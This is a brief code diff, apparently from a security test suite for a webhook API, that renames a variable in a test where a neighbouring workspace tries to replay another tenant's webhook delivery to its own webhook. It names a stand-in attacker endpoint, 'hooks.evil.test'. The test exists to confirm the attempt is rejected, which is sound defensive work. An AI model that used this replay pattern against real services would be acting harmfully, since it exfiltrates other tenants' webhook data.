@@ -148,10 +148,10 @@ const NO_DELIVERY = '404 not_found delivery_not_found';
 const reading: Attempt[] = [
   asNeighbor('POST /v1/webhooks/{own}/deliveries/{attacked}/replay', NO_DELIVERY, async (stage) => {
     const attacked = await delivery(stage);
-    const mine = await invoke(stage.world.as(stage.neighbor.workspace_id), createWebhook, {
+    const own_webhook = await invoke(stage.world.as(stage.neighbor.workspace_id), createWebhook, {
       url: 'https://hooks.evil.test/x',
     });
-    return { to: 'rest', line: `POST /v1/webhooks/${mine.id}/deliveries/${attacked.delivery}/replay`, body: {} };
+    return { to: 'rest', line: `POST /v1/webhooks/${own_webhook.id}/deliveries/${attacked.delivery}/replay`, body: {} };
   }),
   asNeighbor(
     'POST /v1/webhooks/{attacked}/deliveries/{attacked}/replay',
